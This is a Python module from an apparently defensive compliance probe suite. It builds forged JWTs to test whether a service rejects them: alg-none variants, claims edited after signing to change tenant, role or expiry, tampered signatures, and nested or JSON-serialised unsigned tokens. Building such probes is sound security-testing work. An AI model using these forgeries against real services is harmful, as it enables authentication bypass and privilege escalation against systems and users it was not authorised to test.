"""Tokens made without any key: unsigned, altered after signing, or in another shape.

Each keeps the genuine identity's claims, for the refusal of a token that names nobody proves nothing. What
they try is in RFC 8725 (JWT best current practice) §3.1 to 3.3, ASVS v5.0.0-9.1.1 and 9.1.2, CVE-2015-9235.
"""

import json
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from chimera_compliance.probes.jwt.attacker import Attacker
from chimera_compliance.probes.jwt.jose import (
    Token,
    b64,
    compact,
    hmac_signer,
    made_by,
    parse,
    segment,
    signer,
    unsigned,
)
from chimera_compliance.target import ClaimNames


@dataclass(frozen=True)
class Issuer:
    """The right key: with it, tokens are made whose signature is valid and whose claims are not."""

    key: str = field(repr=False)
    algorithm: str

    def token(self, header: Mapping[str, Any], claims: Mapping[str, Any] | str, algorithm: str = "") -> str:
        """A token with a valid signature, whatever it says."""
        return compact(header, claims, signer(self.key, algorithm or self.algorithm))

    def signed(self, token: Token) -> bool:
        """Whether this key made a token's signature."""
        return token.algorithm == self.algorithm and made_by(self.key, token)


@dataclass(frozen=True)
class Genuine:
    """A genuine token, whose it is, and what may be put in its place."""

    text: str
    attacker: Attacker
    names: ClaimNames = field(default_factory=ClaimNames)
    other: str = ""
    """A genuine token of somebody else."""
    lesser: str = ""
    """A genuine token of the same tenant in a role that is not admitted."""
    issuer: "Issuer | None" = None
    """The right key, where the suite holds it or has guessed it."""

    @property
    def token(self) -> Token:
        """The genuine token's parts."""
        return parse(self.text)

    def header(self, **changes: Any) -> dict[str, Any]:
        """The genuine header, changed."""
        return {**self.token.header, **changes}

    @property
    def claims(self) -> dict[str, Any]:
        """The genuine claims."""
        return self.token.claims


@dataclass(frozen=True)
class Forgery:
    """One way to make a token; `what` continues "admitted …". `make` gives None where the way is not open."""

    id: str
    what: str
    make: Callable[[Genuine], str | None] = field(repr=False)
    issued: bool = False
    """Whether it is signed by the right key."""

    def __str__(self) -> str:
        return self.id


def _unsigned(alg: Any, id: str) -> Forgery:
    shown = json.dumps(alg) if not isinstance(alg, str) else alg or "empty"
    return Forgery(id, f"an unsigned token (alg {shown})", lambda g: compact(g.header(alg=alg), g.claims, unsigned))


def _with_two_algorithms(g: Genuine) -> str:
    header = json.dumps(g.header())[1:-1]
    return compact(f'{{"alg":"{g.token.algorithm}",{header},"alg":"none"}}', g.claims, unsigned)


def _without_algorithm(g: Genuine) -> str:
    return compact({name: value for name, value in g.header().items() if name != "alg"}, g.claims, unsigned)


UNSIGNED = [
    *(_unsigned(alg, f"alg-{alg}") for alg in ("none", "None", "NONE", "nOnE")),
    _unsigned("", "alg-empty"),
    _unsigned(None, "alg-null"),
    _unsigned(["none"], "alg-list"),
    Forgery("alg-absent", "an unsigned token without alg", _without_algorithm),
    Forgery("alg-twice", "an unsigned token that names two algorithms", _with_two_algorithms),
    Forgery(
        "alg-none-signed",
        "a token with alg none and a signature that nobody checks",
        lambda g: compact(g.header(alg="none"), g.claims, lambda _: g.token.signature),
    ),
    Forgery("no-signature", "a token whose signature was removed", lambda g: g.token.signed + "."),
    Forgery("two-parts", "a token of two parts", lambda g: g.token.signed),
]


def _edited(g: Genuine, claims: dict[str, Any]) -> str:
    return compact(g.header(), claims, lambda _: g.token.signature)


def _edit_tenant(g: Genuine) -> str | None:
    if not (g.other and g.names.tenant):
        return None
    return _edited(g, {**g.claims, g.names.tenant: parse(g.other).claims.get(g.names.tenant)})


def _edit_role(g: Genuine) -> str | None:
    if not (g.lesser and g.names.role):
        return None
    lesser = parse(g.lesser)
    claims = {**lesser.claims, g.names.role: g.claims.get(g.names.role)}
    return compact(lesser.header, claims, lambda _: lesser.signature)


def _flip(signature: bytes) -> bytes:
    return signature[:-1] + bytes([signature[-1] ^ 1]) if signature else b"\0"


def _resigned(change: Callable[[bytes], bytes]) -> Callable[[Genuine], str]:
    return lambda g: f"{g.token.signed}.{b64(change(g.token.signature))}"


ALTERED = [
    Forgery("tenant-edited", "a token whose tenant was edited after signing", _edit_tenant),
    Forgery("role-edited", "a token whose role was edited after signing", _edit_role),
    Forgery(
        "subject-edited",
        "a token whose subject was edited after signing",
        lambda g: _edited(g, {**g.claims, g.names.subject: f"{g.claims.get(g.names.subject, '')}0"}),
    ),
    Forgery(
        "expiry-edited",
        "a token whose expiry was edited after signing",
        lambda g: _edited(g, {**g.claims, "exp": int(time.time()) + 7200}),
    ),
    Forgery("header-edited", "a token whose header was edited after signing",
            lambda g: compact(g.header(edited=1), g.claims, lambda _: g.token.signature)),
    Forgery("signature-truncated", "a token with half a signature", _resigned(lambda s: s[: len(s) // 2])),
    Forgery("signature-of-one-byte", "a token with one byte of signature", _resigned(lambda s: s[:1])),
    Forgery("signature-flipped", "a token with one bit of the signature changed", _resigned(_flip)),
    Forgery("signature-zeros", "a token with a signature of zeros", _resigned(lambda s: bytes(len(s)))),
    Forgery(
        "signature-of-another",
        "a token with the signature of another token",
        lambda g: f"{g.token.signed}.{b64(parse(g.other).signature)}" if g.other else None,
    ),
]  # fmt: skip


def _nested(g: Genuine) -> str:
    inner = compact({"alg": "none", "typ": "JWT"}, g.claims, unsigned)
    return compact(g.header(cty="JWT"), inner, hmac_signer(g.attacker.secret))


def _encrypted(g: Genuine) -> str:
    header = {"alg": "dir", "enc": "A256GCM", "cty": "JWT"}
    inner = compact({"alg": "none"}, g.claims, unsigned)
    return ".".join((segment(header), "", b64(bytes(12)), b64(inner.encode()), b64(bytes(16))))


def _json_form(**members: Callable[[Genuine], Any]) -> Callable[[Genuine], str]:
    return lambda g: json.dumps({name: value(g) for name, value in members.items()}, separators=(",", ":"))


def _payload(g: Genuine) -> str:
    return segment(g.claims)


def _none_header(_: Genuine) -> str:
    return segment({"alg": "none"})


OTHER_SHAPES = [
    Forgery("nested", "a token that wraps an unsigned token", _nested),
    Forgery("encrypted", "a token in the shape of a JWE under no key of the issuer's", _encrypted),
    Forgery("json-no-signatures", "a JSON-serialised token with an empty list of signatures",
            _json_form(payload=_payload, signatures=lambda g: [])),
    Forgery("json-flattened", "a JSON-serialised unsigned token",
            _json_form(payload=_payload, protected=_none_header, signature=lambda g: "")),
    Forgery("json-claims", "the bare claims as JSON", lambda g: json.dumps(g.claims, separators=(",", ":"))),
    Forgery("base64-claims", "the bare claims in base64", lambda g: b64(json.dumps(g.claims).encode())),
    Forgery("four-parts", "a token of four parts",
            lambda g: compact(g.header(alg="none"), g.claims, unsigned) + "." + b64(g.token.signature)),
    Forgery("payload-not-encoded", "a token that declares its payload not encoded (b64 false)",
            lambda g: compact(g.header(alg="none", b64=False, crit=["b64"]), g.claims, unsigned)),
]  # fmt: skip
